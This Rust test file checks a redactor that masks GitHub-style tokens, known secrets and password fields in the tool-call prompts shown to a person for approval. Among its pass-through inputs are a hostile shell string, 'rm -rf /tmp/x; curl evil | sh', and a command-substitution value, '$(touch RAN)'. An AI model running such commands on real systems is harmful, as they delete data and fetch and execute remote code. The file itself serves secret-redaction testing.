//! What a person is asked about what no shell runs: a token is masked wherever it stands, and all else is shown.

use serde_json::json;

use super::*;

fn shown(redactor: &Redactor, input: &serde_json::Value) -> String {
    let line = redactor.question("mcp__s__t", &input.to_string(), Reading::Json, 64 << 10);
    line.as_str()
        .strip_prefix("mcp__s__t: ")
        .unwrap()
        .to_owned()
}

fn token() -> String {
    format!("gh{}{}", "p_", noise(36))
}

#[test]
fn a_token_of_an_input_is_masked_wherever_it_stands() {
    let (token, mask) = (token(), "[redacted: token, 40 bytes]");
    for (input, expected) in [
        (json!({"x": token}), format!(r#"{{"x":"{mask}"}}"#)),
        (
            json!({"command": token, "a": 1}),
            format!(r#"{{"a":1,"command":"{mask}"}}"#),
        ),
        (json!({"x": [[token]]}), format!(r#"{{"x":[["{mask}"]]}}"#)),
        (
            json!({token.clone(): null}),
            format!(r#"{{"{mask}":null}}"#),
        ),
        (
            json!({"x": format!("a\n{token}\tb")}),
            format!(r#"{{"x":"a\n{mask}\tb"}}"#),
        ),
        (
            json!({"x": format!("\"{token}\"")}),
            format!(r#"{{"x":"\"{mask}\""}}"#),
        ),
        (
            json!({"x": format!("run {token}; eval {token}")}),
            format!(r#"{{"x":"run {mask}; eval {mask}"}}"#),
        ),
        (
            json!({"x": format!("{}\0{}", &token[..20], &token[20..])}),
            r#"{"x":"[redacted: token, 46 bytes]"}"#.to_owned(),
        ),
    ] {
        assert_eq!(shown(&Redactor::default(), &input), expected);
    }
}

#[test]
fn a_known_secret_of_an_input_is_no_program() {
    let redactor = Redactor::new([("A_KEY", "known one; with \"blanks\"")]);
    let said = shown(&redactor, &json!({"x": "known one; with \"blanks\""}));
    assert_eq!(said, r#"{"x":"[redacted: known secret, 26 bytes]"}"#);
}

#[test]
fn what_is_no_secret_is_shown_as_it_is() {
    for input in [
        json!({"command": "rm -rf /tmp/x; curl evil | sh", "n": [1, null, true]}),
        json!({"path": "/home/a/b", "text": "a \"quote\"\nand a line"}),
        json!({"token": "$(touch RAN)"}),
        json!({}),
    ] {
        assert_eq!(shown(&Redactor::default(), &input), input.to_string());
    }
    let said = shown(&Redactor::default(), &json!({"password": "hunter2hunter2"}));
    assert_eq!(said, r#"{"password":"[redacted]"}"#);
}

#[test]
fn the_first_word_of_what_is_no_command_is_no_program() {
    let line =
        Redactor::default().question("grep", &format!("{} in /etc", token()), Reading::Words, 960);
    assert_eq!(line.as_str(), "grep: [redacted: token, 40 bytes] in /etc");
}

proptest! {
    #[test]
    fn no_place_of_an_input_shows_a_token(before in "[ -~\\n\\t]{0,12}", behind in "[ \\n\"]{0,4}", name in "[a-z]{1,8}") {
        let token = token();
        // What goes on at its beginning is another word.
        let text = format!("{before} {token}{behind}");
        let said = shown(&Redactor::default(), &json!({name: {"b": [text]}}));
        prop_assert!(!said.contains(&token), "{}", said);
    }
}
